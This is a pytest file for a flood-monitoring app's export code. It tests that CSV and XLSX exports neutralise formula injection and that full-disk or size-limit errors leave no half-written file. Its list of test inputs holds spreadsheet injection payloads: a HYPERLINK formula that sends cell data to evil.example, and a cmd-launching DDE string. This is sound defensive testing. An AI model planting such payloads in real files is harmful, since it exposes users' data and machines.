"""Exports: formula injection neutralised in CSV and XLSX; a full disk (a real tiny tmpfs
as root, and a file-size limit in a subprocess) gives a clear error and leaves no half file."""

from __future__ import annotations

import csv
import io
import os
import resource
import subprocess
import sys
import tempfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from ops.exports import export_bytes, write_export
from ops.files import WriteFailed

ROOT = Path(__file__).resolve().parents[2]
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def attack_frame() -> pd.DataFrame:
    return pd.DataFrame({"name": ATTACKS + ["สถานีปกติ"], "level": [1.5, -2.0, 3, 4, 5, 6, 7]})


def test_csv_cells_cannot_run_formulas():
    data = export_bytes(attack_frame(), "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    names = [r[0] for r in rows[1:]]
    assert all(n.startswith("'") for n in names[:-1]) and names[-1] == "สถานีปกติ"
    assert [r[1] for r in rows[1:]][:2] == ["1.5", "-2.0"]  # numbers stay numbers
    assert len(rows) == 1 + len(ATTACKS) + 1  # a carriage return inside a cell does not start a new row


def test_xlsx_cells_are_text_not_formulas(tmp_path):
    path = write_export(tmp_path / "out.xlsx", attack_frame())
    sheet = openpyxl.load_workbook(path).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(str(sheet.cell(row=r, column=1).value).startswith("'") for r in range(2, 2 + len(ATTACKS)))
    assert sheet.cell(row=3, column=2).value == -2.0


def test_export_format_is_checked(tmp_path):
    with pytest.raises(ValueError, match=r"out.pdf: the extension must be one of .csv, .xlsx"):
        write_export(tmp_path / "out.pdf", attack_frame())
    assert not list(tmp_path.iterdir())


def big_frame() -> pd.DataFrame:
    return pd.DataFrame({"text": ["น้ำท่วมถนนสายหลัก " * 5] * 20000, "n": range(20000)})


@pytest.fixture
def tiny_disk():
    """A real 1 MB tmpfs (root only: mount is a privileged call)."""
    if os.geteuid() != 0:
        pytest.skip("mounting a tmpfs needs root; the file-size-limit test covers this case")
    where = Path(tempfile.mkdtemp(prefix="floodroom-full-"))
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(where)], capture_output=True, text=True
    )
    if mounted.returncode != 0:
        where.rmdir()
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.strip()}")
    yield where
    subprocess.run(["umount", str(where)], check=True)
    where.rmdir()


def test_full_disk_while_exporting_leaves_nothing(tiny_disk):
    (tiny_disk / "earlier.csv").write_bytes(b"kept")
    with pytest.raises(WriteFailed) as caught:
        write_export(tiny_disk / "impact.csv", big_frame())
    assert str(caught.value).startswith(
        f"cannot write {tiny_disk / 'impact.csv'}: the disk is full (ENOSPC); nothing was written"
    )
    assert sorted(p.name for p in tiny_disk.iterdir()) == ["earlier.csv"]


def test_full_disk_while_backing_up_leaves_nothing(tiny_disk, tmp_path):
    from sqlalchemy import text

    from store.db import make_engine, migrate

    url = f"sqlite:///{tmp_path / 'db.sqlite3'}"
    migrate(url)
    engine = make_engine(url)
    with engine.begin() as conn:
        conn.execute(
            text("INSERT INTO source_health (source, last_error) VALUES (:s, :e)"),
            [{"s": f"s{i}", "e": "x" * 4000} for i in range(600)],
        )
    engine.dispose()
    env = {**os.environ, "DATABASE_URL": url}
    done = subprocess.run(
        [sys.executable, str(ROOT / "manage.py"), "backup", "--out", str(tiny_disk / "db.backup")],
        capture_output=True,
        text=True,
        env=env,
        cwd=ROOT,
        timeout=120,
    )
    assert done.returncode == 1
    assert done.stderr.strip().splitlines() == [done.stderr.strip()]
    assert "the disk is full" in done.stderr and "nothing was written" in done.stderr
    assert list(tiny_disk.iterdir()) == []


WRITER = """
import sys, pandas as pd
from ops.exports import write_export
from ops.files import WriteFailed
frame = pd.DataFrame({"text": ["flood " * 20] * 20000})
try:
    write_export(sys.argv[1], frame)
except WriteFailed as exc:
    print(exc)
    sys.exit(3)
"""


def test_file_size_limit_while_exporting_leaves_nothing(tmp_path):
    def limit():
        resource.setrlimit(resource.RLIMIT_FSIZE, (64 * 1024, 64 * 1024))

    target = tmp_path / "out.csv"
    done = subprocess.run(
        [sys.executable, "-c", WRITER, str(target)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        preexec_fn=limit,
        timeout=120,
    )
    assert done.returncode == 3, done.stderr
    assert "the file is larger than the allowed file size (EFBIG); nothing was written" in done.stdout
    assert list(tmp_path.iterdir()) == []
